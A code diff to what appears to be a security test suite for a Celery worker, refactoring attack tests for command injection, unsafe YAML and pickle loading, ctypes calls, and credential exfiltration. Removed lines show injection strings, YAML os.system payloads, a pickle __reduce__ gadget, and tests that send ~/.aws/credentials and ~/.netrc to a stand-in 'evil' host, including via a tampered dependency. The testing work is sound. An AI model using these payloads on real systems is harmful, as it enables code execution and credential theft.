@@ -7,6 +7,7 @@ import pickle
 import time
 import uuid
 
+from attackers import Bomb, in_yaml
 import stage
 
 PRICING = {"__init__.py": "def price(count, each):\n"
@@ -22,14 +23,6 @@ PRICING_NEW = {
                 "    return round(count * each * (1 - off), 2)\n",
     "steps.json": "[[10, 0.05], [100, 0.1]]\n"}
 ANSWER_SECONDS = 5
-
-
-class Bomb:
-    def __init__(self, *call):
-        self.call = call
-
-    def __reduce__(self):
-        return self.call[0], self.call[1:]
 
 
 class CeleryWorker(stage.Service):
@@ -174,16 +167,14 @@ class CeleryWorker(stage.Service):
 
     @stage.attack("command injection")
     def width_runs_a_command(self):
-        marker = self.marker("width")
-        self.task("thumbnail", 1001, "flyer.txt", f"9 /dev/null; id > {marker}"
-                  "; cut -c1-9")
-        return marker.exists()
+        return self.runs_line(lambda line: self.task(
+            "thumbnail", 1001, "flyer.txt",
+            f"9 /dev/null; {line}; cut -c1-9"))
 
     @stage.attack("command injection")
     def name_runs_a_command(self):
-        marker = self.marker("name")
-        self.task("thumbnail", 1001, f"x'; id > {marker}; true '", 9)
-        return marker.exists()
+        return self.runs_line(lambda line: self.task(
+            "thumbnail", 1001, f"x'; {line}; true '", 9))
 
     @stage.attack("argument injection")
     def pages_are_another_file(self):
@@ -222,38 +213,25 @@ class CeleryWorker(stage.Service):
 
     @stage.attack("unsafe yaml")
     def ticket_runs_a_command(self):
-        marker = self.marker("yaml")
-        self.loads(f"!!python/object/apply:os.system ['id > {marker}']\n")
-        return marker.exists()
+        return self.runs_line(lambda line: self.loads(
+            f"!!python/object/apply:os.system ['{line}']\n"))
 
     @stage.attack("ctypes")
     def ticket_calls_libc(self):
-        marker = self.marker("ctypes")
-        self.loads("!!python/object/apply:exec\n- " + json.dumps(
-            "import ctypes\nctypes.CDLL(None).system("
-            f"b'id > {marker}')\n"))
-        return marker.exists()
+        return self.runs_libc(lambda code: self.loads(in_yaml(code)))
 
     @stage.attack("exfiltration")
     def ticket_sends_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        self.loads("!!python/object/apply:exec\n- " + json.dumps(
-            stage.THEFT.format(url=evil.url, file="~/.aws/credentials")))
-        return evil.heard(stage.SECRET)
+        return self.steals(lambda code: self.loads(in_yaml(code)))
 
     @stage.attack("unsafe pickle")
     def message_runs_a_command(self):
-        marker = self.marker("pickle")
-        self.explodes(os.system, f"id > {marker}")
-        return self.happens(marker.exists)
+        return self.runs_line(lambda line: self.explodes(os.system, line),
+                              waits=True)
 
     @stage.attack("fork+exec")
     def message_forks_and_execs(self):
-        marker = self.marker("fork")
-        self.explodes(exec, stage.FORK_AND_EXEC.format(
-            line=f"id > {marker}"))
-        return self.happens(marker.exists)
+        return self.forks(lambda code: self.explodes(exec, code))
 
     @stage.attack("symlink swap")
     def order_became_a_link(self):
@@ -267,10 +245,5 @@ class CeleryWorker(stage.Service):
 
     @stage.attack("malicious dependency", fresh=True)
     def pricing_steals_credentials(self):
-        evil = self.site("evil")
-        evil.page("*", b"")
-        self.halt()
-        self.install("pricing", "0.9.1", {"__init__.py": stage.THEFT.format(
-            url=evil.url, file="~/.netrc") + PRICING["__init__.py"]})
-        self.start()
-        return evil.heard(stage.SECRET)
+        return self.dependency_steals("pricing", "0.9.1", PRICING,
+                                      self.restart)
